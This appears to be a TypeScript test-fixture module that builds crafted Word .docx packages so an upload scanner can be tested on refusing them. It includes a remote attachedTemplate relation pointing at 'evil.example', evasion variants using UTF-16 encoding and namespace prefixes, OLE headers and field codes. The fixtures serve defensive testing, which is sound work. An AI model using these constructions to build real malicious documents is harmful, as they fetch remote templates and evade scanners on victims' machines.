import { docxParts } from '../../../../demo/files/make-docx.ts';
import { makeZip, type ZipPart } from '../../../../demo/files/make-zip.ts';
import type { ContentFindingCode } from '../../../../shared/uploads/content/finding.ts';

/** A document with these parts in the place of its own, and why it must be refused. */
export type Row = readonly [title: string, parts: readonly ZipPart[], code: ContentFindingCode];

export const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const packaged = 'http://schemas.openxmlformats.org/package/2006';
export const template = `Type="${office}/attachedTemplate" Target="http://evil.example/t.dotm"`;
export const settingsRels = 'word/_rels/settings.xml.rels';

export const ole = Buffer.from('d0cf11e0a1b11ae1', 'hex');
export const relation = (attributes: string): string => `<Relationship Id="r1" ${attributes}/>`;
export const link = (target: string): string =>
  relation(`Type="${office}/hyperlink" Target="${target}" TargetMode="External"`);
export const listed = (items: string): string =>
  `<Relationships xmlns="${packaged}/relationships">${items}</Relationships>`;
export const relations = (items: string): ZipPart => ({ name: settingsRels, content: listed(items) });

export function encoded(mark: string): ZipPart {
  const text = `${mark}<?xml version="1.0" encoding="UTF-16"?>${listed(relation(`${template} TargetMode="External"`))}`;
  return { name: settingsRels, content: Buffer.from(text, 'utf16le') };
}

export function prefixed(): ZipPart {
  const item = relation(`${template} TargetMode="External"`).replace('<', '<a-b:');
  return {
    name: settingsRels,
    content: `<a-b:Relationships xmlns:a-b="${packaged}/relationships">${item}</a-b:Relationships>`,
  };
}

export const types = (content: string): ZipPart => ({ name: '[Content_Types].xml', content });
export const typesNow = (): string => String(docxParts('', [])[0]?.content);
export const withDefault = (ending: string): ZipPart[] => [
  types(typesNow().replace('<Default', `<Default Extension="${ending}" ContentType="image/png"/><Default`)),
];

export function withType(name: string, type: string): ZipPart[] {
  const without = typesNow().replace(/<Override [^>]*document\.xml[^>]*>/, (own) =>
    name === 'word/document.xml' ? '' : own,
  );
  const own = `<Override PartName="/${name}" ContentType="${type}"/></Types>`;
  const part = name === 'word/document.xml' ? [] : [{ name, content: '<a/>' }];
  return [types(without.replace('</Types>', own)), ...part];
}

export const body = (content: string): ZipPart => ({
  name: 'word/document.xml',
  content: `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${content}</w:body></w:document>`,
});
export const mark = (kind: string): string => `<w:r><w:fldChar w:fldCharType="${kind}"/></w:r>`;
export const code = (text: string): string =>
  `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
export const field = (text: string): string =>
  `<w:p>${mark('begin')}${code(text)}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}</w:p>`;

export function changed(parts: readonly ZipPart[]): Buffer {
  const names = new Set(parts.map(({ name }) => name));
  return makeZip([...docxParts('测试报告', ['正文']).filter(({ name }) => !names.has(name)), ...parts]);
}
